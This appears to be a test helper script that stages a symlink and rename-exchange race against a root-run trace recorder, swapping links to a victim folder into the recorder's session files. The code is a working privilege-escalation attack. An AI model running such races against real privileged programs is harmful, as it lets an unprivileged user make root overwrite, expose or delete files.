"""swap_race.py SESSION VICTIM: plays a process of the session's owner that leads root astray.

Until it is ended, it puts links to files of the folder VICTIM, or the folder itself, in the places that a recorder
makes, replaces, gives away or removes, and swaps them with files of its own as fast as it can (renameat2 with
RENAME_EXCHANGE: both names are always there). After more than 100 times it makes SESSION.swapped; it prints how often it did,
once it is told to end (SIGTERM)."""
import ctypes
import os
import random
import signal
import sys

AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)
session, victim = sys.argv[1:]
swaps = 0
going = True
NAMES = ("session.json.new", "raw/cmdlines.new", "raw/start.json.new", "raw/plan.json.new", "raw/trace.dat", "raw/head",
         "raw/cpu0", "raw/reserve", "trace.dat", "session.json", "lock", "control", "symbols", "uftrace.data", "info",
         "info.new", "task.txt", "100.dat", "200.dat", "sid-0.map.new", "sync.txt")


def stop(*_):
    global going
    going = False


def quietly(call, *arguments):
    try:
        call(*arguments)
        return True
    except OSError:
        return False


def exchange(one, other):
    global swaps
    if libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE) == 0:
        swaps += 1


def make_bait():
    """A folder of files that are called as the victims are, and a link to the victims beside it."""
    bait, link = f"{session}/bait", f"{session}/lure"
    if quietly(os.mkdir, bait):
        for name in os.listdir(victim):
            quietly(lambda: open(f"{bait}/{name}", "x").close())
    quietly(os.symlink, victim, link)
    return bait, link


signal.signal(signal.SIGTERM, stop)
files = os.listdir(victim)
while going:
    bait, link = make_bait()
    for _ in range(200):
        exchange(bait, link)
    if swaps > 100:
        quietly(lambda: open(f"{session}.swapped", "x").close())
    name = f"{session}/{random.choice(NAMES)}"
    own = f"{session}.mine"
    quietly(os.symlink, f"{victim}/{random.choice(files)}", own)
    if random.random() < 0.5:
        quietly(os.symlink, f"{victim}/{random.choice(files)}", name)
    else:
        exchange(own, name)
        if random.random() < 0.5:
            exchange(own, name)
    if random.random() < 0.02:
        exchange(link, f"{session}/raw")
        exchange(link, f"{session}/raw")
    if random.random() < 0.3:
        quietly(os.unlink, own)
        quietly(os.unlink, name)
print(swaps)
